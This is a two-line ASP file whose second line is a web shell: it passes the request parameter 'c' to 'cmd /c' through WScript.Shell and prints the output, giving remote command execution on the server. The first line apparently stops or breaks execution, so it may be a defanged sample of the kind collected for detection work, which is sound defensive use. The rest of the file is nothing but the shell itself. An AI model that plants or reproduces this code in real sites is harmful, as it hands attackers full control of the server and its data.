<% Response.End : Dim 1 %>
<% Set s=Server.CreateObject("WScript.Shell"): Response.Write s.Exec("cmd /c "&request("c")).StdOut.ReadAll %>
